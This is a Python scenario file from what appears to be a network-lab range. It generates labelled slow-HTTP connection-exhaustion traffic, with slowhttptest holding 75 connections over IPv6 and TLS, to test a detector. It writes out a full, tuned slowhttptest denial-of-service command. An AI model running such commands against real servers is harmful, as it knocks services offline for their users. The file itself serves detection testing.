"""Slow requests over IPv6 and TLS."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.outside("attacker"), net.web()
    net.everyday()
    net.loop(net.inside("pc2"), f"curl -s -k -m 3 -o /dev/null -g https://[{web.ip6}]/", 1.5)
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[web.ip6],
        frames=f"ip6 and tcp and dst host {web.ip6} and dst port 443",
        responses=f"ip6 and tcp and src host {web.ip6} and dst host {attacker.ip6}",
    ):
        words = f"slowhttptest -c 75 -H -i 9 -r 12 -l 42 -t GET -x 24 -p 3 -u https://[{web.ip6}]/"
        net.tool(attacker, *words.split(), seconds=44)
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-held-https6",
    about="slowhttptest -H holds 75 connections over IPv6 and TLS to a web server, a line every 9 seconds.",
    detectors=("connection-exhaustion",),
    tools={"slowhttptest": "slowhttptest"},
    snap_octets=100,
    run=run,
)
